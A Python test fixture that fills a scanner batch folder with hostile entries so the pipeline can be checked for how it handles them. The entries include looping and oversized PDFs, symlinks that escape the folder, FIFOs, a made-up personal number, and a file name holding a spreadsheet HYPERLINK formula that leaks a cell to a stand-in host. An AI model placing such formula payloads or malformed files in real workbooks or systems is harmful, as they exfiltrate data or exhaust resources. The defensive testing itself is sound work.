"""Hostile entries for a batch folder: what a scanner share can hold besides scans."""

from __future__ import annotations

import os
import socket
from dataclasses import dataclass
from pathlib import Path

# A made-up person (the 個人番号 is valid: check digit 8) whose name and number must never
# reach a log, a reason, a workbook or Prefect's database.
PERSON_NAME = "波多野結衣子"
PERSON_MY_NUMBER = "123456789018"


def pdf(objects: list[str]) -> bytes:
    """A PDF of ``objects`` (numbered from 1, object 1 the catalog) with a correct xref."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return out


LOOPING_PDF = pdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
])  # fmt: skip
HUGE_PAGE_PDF = pdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2000000 2000000] >>",
])  # fmt: skip


LEFT_IN_PLACE = ("folder.pdf", "pipe.pdf", "sock.pdf", "link-to-folder.pdf", "dangling.pdf")
QUARANTINED = ("link-outside.pdf", "empty.pdf", "looping.pdf", "huge-page.pdf", "text.pdf",
               "notes.docx")  # fmt: skip


@dataclass(frozen=True)
class HostileBatch:
    """The entries made, by what they are."""

    folder: Path
    outside: Path  # a file outside the batch that a link points at
    left_in_place: tuple[str, ...]  # entries that cannot be moved (folders, FIFOs, sockets)
    quarantined: tuple[str, ...]  # entries whose content goes to quarantine
    marker: str


def make_hostile_batch(folder: Path, outside_dir: Path) -> HostileBatch:
    """Fill ``folder`` with every kind of entry a batch should survive."""
    folder.mkdir(parents=True, exist_ok=True)
    outside_dir.mkdir(parents=True, exist_ok=True)
    outside = outside_dir / "someone-elses.txt"
    outside.write_text("not a scan, and not jimu's to change\n", encoding="utf-8")
    outside.chmod(0o644)
    (folder / "folder.pdf").mkdir()
    os.mkfifo(folder / "pipe.pdf")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "sock.pdf"))
    server.close()
    (folder / "link-to-folder.pdf").symlink_to(outside_dir)
    (folder / "dangling.pdf").symlink_to(outside_dir / "gone.pdf")
    (folder / "link-outside.pdf").symlink_to(outside)
    (folder / "empty.pdf").write_bytes(b"")
    (folder / "looping.pdf").write_bytes(LOOPING_PDF)
    (folder / "huge-page.pdf").write_bytes(HUGE_PAGE_PDF)
    (folder / "text.pdf").write_text("これはPDFではありません", encoding="utf-8")
    (folder / "notes.docx").write_bytes(b"PK\x03\x04 not really a document")
    named = f"{PERSON_NAME}_{PERSON_MY_NUMBER}.pdf"
    (folder / named).write_bytes(b"%PDF-1.4 truncated")
    formula = '=HYPERLINK("http:\\example.invalid?leak="&A3,"詳細").pdf'
    (folder / formula).write_bytes(b"\x89PNG\r\n\x1a\n broken")
    (folder / ".submitted").write_text("flow-run-id\n", encoding="utf-8")
    return HostileBatch(
        folder=folder,
        outside=outside,
        left_in_place=LEFT_IN_PLACE,
        quarantined=(*QUARANTINED, named, formula),
        marker=".submitted",
    )
